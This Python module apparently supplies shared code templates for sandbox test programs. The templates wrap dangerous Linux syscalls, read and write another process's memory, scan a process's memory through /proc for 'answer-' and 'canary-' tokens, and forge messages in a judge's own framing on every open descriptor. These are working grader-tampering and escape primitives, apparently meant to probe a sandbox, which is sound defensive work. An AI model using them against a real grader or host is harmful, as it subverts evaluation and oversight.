"""Text that programs share: system calls by name, and forged messages."""

from __future__ import annotations

import re
import textwrap
from collections.abc import Mapping

SYSCALLS = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_table = {
    "add_key": (248, 217), "bpf": (321, 280), "capset": (126, 91), "chroot": (161, 51), "clone": (56, 220),
    "execveat": (322, 281), "fanotify_init": (300, 262), "finit_module": (313, 273), "fsopen": (430, 430),
    "init_module": (175, 105), "io_uring_setup": (425, 425), "ioprio_set": (251, 30), "iopl": (172, -1),
    "kcmp": (312, 272), "kexec_load": (246, 104), "keyctl": (250, 219), "memfd_create": (319, 279),
    "migrate_pages": (256, 238), "mlock": (149, 228), "mount": (165, 40), "move_pages": (279, 239),
    "mq_open": (240, 180), "msgget": (68, 186), "msgsnd": (69, 189), "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265), "open_tree": (428, 428), "perf_event_open": (298, 241),
    "personality": (135, 92), "pidfd_getfd": (438, 438), "pidfd_open": (434, 434),
    "pidfd_send_signal": (424, 424), "pivot_root": (155, 41), "prctl": (157, 167), "prlimit64": (302, 261),
    "process_madvise": (440, 440), "process_vm_readv": (310, 270), "process_vm_writev": (311, 271),
    "ptrace": (101, 117), "quotactl": (179, 60), "rt_sigqueueinfo": (129, 138), "seccomp": (317, 277),
    "semget": (64, 190), "setns": (308, 268), "setuid": (105, 146), "shmat": (30, 196), "shmget": (29, 194),
    "sched_setattr": (314, 274), "setxattr": (188, 5), "swapon": (167, 224), "syslog": (103, 116),
    "tgkill": (234, 131), "unshare": (272, 97), "userfaultfd": (323, 282), "vfork": (58, -1),
    "get_robust_list": (274, 100), "sethostname": (170, 161),
}
def call(name, *args):
    ctypes.set_errno(0)
    number = _table[name][0 if os.uname().machine == "x86_64" else 1]
    args = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    return _libc.syscall(ctypes.c_long(number), *args)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def read_memory(pid, address, length):
    buffer = ctypes.create_string_buffer(length)
    ours, theirs = Vector(ctypes.addressof(buffer), length), Vector(address, length)
    call("process_vm_readv", pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw
def write_memory(pid, address, data):
    buffer = ctypes.create_string_buffer(data, len(data))
    ours, theirs = Vector(ctypes.addressof(buffer), len(data)), Vector(address, len(data))
    return call("process_vm_writev", pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
"""
"""`call(name, ...)` on x86-64 and arm64, and the memory of another process."""

FORGE = """
import json, os, struct
def on_all(data):
    for fd in range(3, 64):
        try: os.write(fd, data)
        except OSError: pass
def framed(payload, kind=b"R"):
    return struct.pack("<I", len(payload) + 1) + kind + payload
def forge(payload, kind=b"R"):
    on_all(framed(payload, kind))
"""
"""`forge(payload, kind)` writes a message of the judge's own form on every descriptor."""

SEARCH = """
import os, re
ANSWER = re.compile(rb"answer-[0-9a-f]{16}")
SECRET = re.compile(rb"canary-[0-9a-f]{24}")
def say(data):
    found = SECRET.search(data)
    if found: print(found[0].decode(), flush=True)
    answer = ANSWER.search(data)
    return answer[0].decode() if answer else None
def memory_of(pid):
    found = None
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw" in line.split()[1] and end - start < 1 << 26:
                try:
                    memory.seek(start)
                    found = say(memory.read(end - start)) or found
                except (OSError, ValueError, OverflowError): pass
    return found
def parent_of(pid):
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rpartition(")")[2].split()[1])
"""
"""`say(data)` prints the secret if it is there and returns the answer if it is there."""

TEXTS = {"@SYSCALLS@": SYSCALLS, "@FORGE@": FORGE, "@SEARCH@": SEARCH}


def fill(program: str, words: Mapping[str, object]) -> str:
    """The program with shared text and words filled in."""
    text = textwrap.dedent(program)
    for word, value in {**TEXTS, **words}.items():
        text = text.replace(word, str(value))
    return text


def words_of(*programs: str) -> set[str]:
    """The words that programs use, shared text apart."""
    return {word for program in programs for word in re.findall(r"@[A-Z0-9_]+@", program)} - TEXTS.keys()
